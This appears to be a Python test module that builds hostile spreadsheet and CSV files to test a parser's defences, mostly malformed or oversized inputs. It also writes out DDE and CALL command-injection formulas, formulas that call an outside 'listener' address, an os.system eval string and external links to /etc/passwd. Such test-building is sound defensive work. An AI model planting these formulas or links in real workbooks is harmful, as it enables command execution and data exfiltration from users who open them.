"""Workbooks that claim more than they hold, point nowhere, or carry what is to be run."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterator

from tests.hostile.file import FORM, SECRET, Hostile, Outcome, packed
from tests.workbook.forms import Line, workbook
from tests.workbook.test_old_formats import ods
from tests.workbook.writers import html_page, spreadsheet_xml

__all__ = ["claims"]

_SHEET = "xl/worksheets/sheet1.xml"
_STRINGS = "xl/sharedStrings.xml"
_RELATIONS = "xl/_rels/workbook.xml.rels"
_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def _members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return {name: book.read(name) for name in book.namelist()}


_XLSX = _members(workbook({"Sheet1": FORM}))
_ODS = _members(ods())["content.xml"]


def _book(part: str, old: str, new: bytes) -> bytes:
    """Return the sound workbook with the first match of a pattern in one part replaced."""
    changed, count = re.subn(old.encode(), lambda _: new, _XLSX[part], count=1, flags=re.S)
    assert count == 1, (part, old)
    return packed(_XLSX | {part: changed})


def _rows(xml: bytes) -> bytes:
    return _book(_SHEET, "</sheetData>", xml + b"</sheetData>")


def claims(listener: str) -> Iterator[Hostile]:
    """Yield workbooks; `listener` is an address that nobody may ask."""
    for title, content, outcome in _of_sheets():
        yield Hostile(title, "claims.xlsx", content, outcome)
    for title, content in _to_run(listener):
        yield Hostile(title, "runs.xlsm", content)
    yield from _of_other_formats()
    yield from _of_text()


def _of_sheets() -> Iterator[tuple[str, bytes, Outcome]]:
    span = rb"<dimension ref=\"[^\"]*\"/>".decode()
    yield "says it spans all", _book(_SHEET, span, b'<dimension ref="A1:XFD1048576"/>'), "either"
    yield "says it spans beyond", _book(_SHEET, span, b'<dimension ref="A1:ZZZ9999999"/>'), "either"
    yield "says it spans nothing", _book(_SHEET, span, b'<dimension ref=""/>'), "either"
    for place in (
        "XFD1048576",
        "A1048577",
        "XFE1",
        "ZZZZZZZ1",
        "A99999999999999999999",
        "",
        "1",
        "A",
    ):
        row = b'<row r="1048576"><c r="%s"><v>1</v></c></row>' % place.encode()
        yield f"a cell at {place!r}", _rows(row), "refused" if place == "XFD1048576" else "either"
    for number in ("0", "-1", "4294967296", "x"):
        row = f'<row r="{number}"><c r="A1"><v>1</v></c></row>'.encode()
        yield f"row {number}", _rows(row), "either"
    for number in ("99999", "-1", "4294967295", "1e9", ""):
        cell = f'<row r="9"><c r="A9" t="s"><v>{number}</v></c></row>'.encode()
        yield f"text number {number!r}", _rows(cell), "either"
        style = f'<row r="9"><c r="A9" s="{number}"><v>1</v></c></row>'.encode()
        yield f"style number {number!r}", _rows(style), "either"
    for value in ("1e999", "NaN", "-0", "9" * 5_000, "0x10", "１２"):
        cell = f'<row r="9"><c r="A9"><v>{value}</v></c></row>'.encode()
        yield f"value {value[:8]}", _rows(cell), "either"
    many = b'<row r="9">' + b'<c r="A9"><v>1</v></c>' * 100_000 + b"</row>"
    yield "one cell a hundred thousand times", _rows(many), "either"
    empty = b"".join(b'<row r="%d"/>' % n for n in range(9, 300_009))
    yield "three hundred thousand empty rows", _rows(empty), "either"
    merged = b"<mergeCells>" + b'<mergeCell ref="A1:XFD1048576"/>' * 5_000 + b"</mergeCells>"
    yield "merged all over", _book(_SHEET, "</sheetData>", b"</sheetData>" + merged), "either"
    hidden = b'<cols><col min="1" max="4294967295" hidden="1"/></cols><sheetData>'
    yield "hidden without end", _book(_SHEET, "<sheetData>", hidden), "either"
    for count in ("4294967295", "99999999999999999999", "-1"):
        said = f'uniqueCount="{count}"'.encode()
        outcome: Outcome = "refused" if count.startswith("4") else "either"
        yield f"{count} texts", _book(_STRINGS, r'uniqueCount="\d+"', said), outcome
    for often in (200, 3_000):
        sheets = b"".join(b'<sheet name="%d" sheetId="1" r:id="rId1"/>' % n for n in range(often))
        outcome = "refused" if often > 1_000 else "either"
        yield f"{often} sheets in one", _book("xl/workbook.xml", "<sheet [^>]*/>", sheets), outcome
    blank: Line = [None] * 4
    forms = [line for _ in range(150) for line in (*FORM, blank, blank)]
    yield "a hundred and fifty forms on a sheet", workbook({"Sheet1": forms}), "either"


def _to_run(listener: str) -> Iterator[tuple[str, bytes]]:
    """Yield workbooks whose formulas, links, objects or macros want to be run or followed."""
    formulas = {
        "circle of one": "A9",
        "circle of many": "SUM(A1:A99)",
        "command": "cmd|'/C touch outside'!A0",
        "dde": "DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)",
        "link": f"HYPERLINK(&quot;{listener}&quot;,&quot;x&quot;)",
        "web": f"WEBSERVICE(&quot;{listener}&quot;)",
        "picture": f"IMAGE(&quot;{listener}&quot;)",
        "import": f"IMPORTXML(&quot;{listener}&quot;,&quot;//a&quot;)",
        "call": "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;)",
        "other book": f"'[{listener}/a.xlsx]Sheet1'!A1",
        "thousand brackets": "(" * 1_000 + "1" + ")" * 1_000,
        "power of powers": "9^9^9^9^9",
        "very long": "+".join(["A1"] * 20_000),
        "eval": "__import__('os').system('touch outside')",
    }
    for title, formula in formulas.items():
        for cached in ("", "<v>5</v>"):
            cell = f'<row r="9"><c r="A9"><f>{formula}</f>{cached}</c></row>'.encode()
            yield f"formula {title}{' with a value' if cached else ''}", _rows(cell)
    outside = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    for kind, target in (
        ("externalLink", listener),
        ("attachedTemplate", listener),
        ("oleObject", "file:///etc/passwd"),
        ("worksheet", "../../../../etc/passwd"),
        ("worksheet", "/etc/passwd"),
    ):
        relation = outside.format(kind=kind, target=target).encode()
        yield f"{kind} to {target[:9]}", _book(_RELATIONS, "</Relationships>", relation)
    sound = dict(_XLSX)
    yield "macros", packed(sound | {"xl/vbaProject.bin": _COMPOUND + SECRET.encode() * 90})
    yield "an object", packed(sound | {"xl/embeddings/oleObject1.bin": _COMPOUND + b"MZ" * 900})
    yield "an outer book", packed(sound | {"xl/externalLinks/externalLink1.xml": b"<ddeLink/>"})


def _of_other_formats() -> Iterator[Hostile]:
    locked = _COMPOUND + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600)
    yield Hostile("a password", "locked.xlsx", locked, "refused")
    for title, repeated in (
        ("rows", b' table:number-rows-repeated="900000000"'),
        ("negative rows", b' table:number-rows-repeated="-5"'),
    ):
        xml = _ODS.replace(b"<table:table-row", b"<table:table-row" + repeated, 1)
        outcome: Outcome = "refused" if title == "rows" else "either"
        yield Hostile(
            f"ods: repeated {title}", "repeated.ods", packed({"content.xml": xml}), outcome
        )
    xml = _ODS.replace(
        b"<table:table-cell", b'<table:table-cell table:number-columns-repeated="99999999"', 1
    )
    yield Hostile("ods: repeated cells", "repeated.ods", packed({"content.xml": xml}), "refused")
    for title, span in (("columns", 'colspan="99999999"'), ("rows", 'rowspan="99999999"')):
        page = html_page(FORM).replace(b"<td", f"<td {span}".encode())
        yield Hostile(f"page: spans {title}", "spans.xls", page)
    for title, old, new in (
        ("row", b"<Row>", b'<Row ss:Index="2147483647">'),
        ("cell", b'ss:Index="1"', b'ss:Index="999999999"'),
        ("merged", b"<Cell ", b'<Cell ss:MergeAcross="99999999" ss:MergeDown="99999999" '),
        ("span", b"<Table>", b'<Table><Column ss:Span="2147483647" ss:Hidden="1"/>'),
    ):
        plain = spreadsheet_xml("Sheet1", FORM).replace(old, new, 1)
        yield Hostile(f"XML of 2003: {title}", "far.xml", plain)


def _of_text() -> Iterator[Hostile]:
    head, body = "单位名称,受理线索,办结线索,备注\n", f"城关镇,12,5,{SECRET}\n"
    sound = f"青禾县2025年3月月报表,,,\n{head}{body}"
    for title, content in (
        ("a million columns", (sound + "," * 1_000_000).encode()),
        ("one huge field", (sound + '"' + "x" * 3_000_000 + '"').encode()),
        ("a field without end", (sound + '"' + "x\n" * 100_000).encode()),
        ("three hundred thousand lines", (sound + "\n" * 300_000).encode()),
        ("a line wider than all", (sound + "1," * 20_000 + "\n" * 2_000).encode()),
        ("NULs", sound.replace("镇", "镇\0").encode()),
        ("two encodings", head.encode("gb18030") + body.encode("utf-8")),
        ("a mark for UTF-16 alone", b"\xff\xfe"),
        ("UTF-16 behind a mark for UTF-8", b"\xef\xbb\xbf" + sound.encode("utf-16-le")),
        ("UTF-8 behind a mark for UTF-16", b"\xff\xfe" + sound.encode()),
        ("UTF-32", sound.encode("utf-32")),
        ("UTF-7", sound.encode("utf-7")),
        ("marks all over", ("\ufeff" * 1_000 + sound).encode()),
        ("surrogates", sound.encode() + b"\xed\xa0\x80\xed\xb0\x80"),
        ("overlong signs", sound.encode() + b"\xc0\xae\xc0\xae\xc0\xaf"),
        ("controls", (sound + "\x1b]0;outside\x07\x1b[2J\x08\x7f,1,1,1\n").encode()),
        ("line ends of every kind", sound.replace("\n", "\r\x0b\x0c\x1c\x85\u2028").encode()),
        ("quotes", (sound + '"' * 99_999).encode()),
        ("a separator in its head", b"sep=|\r\n" + sound.encode()),
    ):
        yield Hostile(f"text with {title}", "text.csv", content)
